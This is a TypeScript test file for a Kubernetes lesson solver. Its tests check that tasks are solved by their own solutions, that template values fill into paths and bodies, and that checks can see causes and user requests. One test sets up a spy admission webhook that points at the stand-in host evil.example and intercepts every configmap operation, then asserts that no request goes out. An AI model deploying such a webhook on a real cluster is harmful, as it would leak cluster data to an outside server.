import { afterEach, describe, expect, it, vi } from 'vitest';
import { solveInNewCluster } from '../../src/hosts/lessons/solve-in-new-cluster.ts';
import { readLesson } from '../../src/lessons/format/read-lesson.ts';

const lessonWith = (check: string, solution: string): string => `
title: T
summary: S
minutes: 1
start:
  objects: [{apiVersion: v1, kind: ConfigMap, metadata: {name: settings, namespace: default}, data: {color: blue}}]
state: {settings: {resource: configmaps, namespace: default, name: settings}}
steps:
  - {title: A, text: B, tasks: [{text: C, check: '${check}', solution: [${solution}]}]}`;

const solve = async (check: string, solution: string) => {
  const { lesson, problems } = readLesson(lessonWith(check, solution));
  expect(problems).toEqual([]);
  return lesson && (await solveInNewCluster(lesson));
};

const SETTINGS = '/api/v1/namespaces/default/configmaps/settings';
const TO_RED = `{method: PATCH, path: ${SETTINGS}, type: application/merge-patch+json, body: {data: {color: red}}}`;

describe('solving a lesson by its own solutions', () => {
  afterEach(() => vi.restoreAllMocks());

  it('finds nothing wrong with a task that its solution solves', async () => {
    expect(await solve('settings.data.color == "red"', TO_RED)).toEqual([]);
  });

  it('sends nothing to the servers that webhooks of the lesson name', async () => {
    const send = vi.spyOn(globalThis, 'fetch').mockRejectedValue(new Error('no server'));
    const webhook = `{apiVersion: admissionregistration.k8s.io/v1, kind: ValidatingWebhookConfiguration, metadata: {name: spy},
      webhooks: [{name: spy.evil.example, clientConfig: {url: 'https://evil.example', caBundle: ''}, sideEffects: None,
      admissionReviewVersions: [v1], failurePolicy: Ignore,
      rules: [{apiGroups: [''], apiVersions: [v1], operations: ['*'], resources: [configmaps]}]}]}`;
    expect(await solve('settings.data.color == "red"', `{apply: [${webhook}]}, ${TO_RED}`)).toEqual([]);
    expect(send).not.toHaveBeenCalled();
  });

  it('reports a task that is solved at the start', async () => {
    expect(await solve('settings.data.color != ""', TO_RED)).toEqual([
      'step 1, task 1 is solved at the start',
      'step 1, task 1 is solved before its solution',
    ]);
  });

  it('reports a task that its solution does not solve', async () => {
    expect(await solve('settings.data.color == "green"', TO_RED)).toEqual([
      'step 1, task 1 is not solved by its solution',
    ]);
  });

  it('fills the values of expressions into paths and bodies', async () => {
    const put = `{method: PUT, path: "/api/v1/namespaces/{{settings.metadata.namespace}}/configmaps/settings", body: {apiVersion: v1, kind: ConfigMap, metadata: {name: settings, resourceVersion: "{{settings.metadata.resourceVersion}}"}, data: {color: "{{settings.data.color}}-red"}}}`;
    expect(await solve('settings.data.color == "blue-red"', put)).toEqual([]);
  });

  it('shows the causes of the states of named objects, and causes of causes, to checks', async () => {
    const pod = `{apply: [{apiVersion: v1, kind: Pod, metadata: {name: settings, namespace: default}, spec: {nodeSelector: {disk: fast}, containers: [{name: a, image: nginx}]}}]}`;
    const check = (rule: string) => `causes.exists(c, c.of == "settings" && c.rule == "${rule}" && c.depth == 0)`;
    const solveCauses = async (rule: string) => {
      const text = lessonWith(check(rule), pod).replace('resource: configmaps', 'resource: pods');
      const { lesson, problems } = readLesson(text);
      expect(problems).toEqual([]);
      return lesson && (await solveInNewCluster(lesson));
    };
    expect(await solveCauses('node-selector')).toEqual([]);
    expect(await solveCauses('image')).toEqual(['step 1, task 1 is not solved by its solution']);
  });

  it('shows requests of users, refused ones and reads too, to checks', async () => {
    const get = `{method: GET, path: ${SETTINGS}, as: alice}`;
    const check = 'requests.exists(r, r.user == "alice" && r.verb == "get" && r.name == "settings" && r.code == 403)';
    expect(await solve(check, get)).toEqual([]);
    expect(await solve('requests.exists(r, r.verb == "get" && r.code == 200)', get.replace(', as: alice', ''))).toEqual(
      [],
    );
  });
});
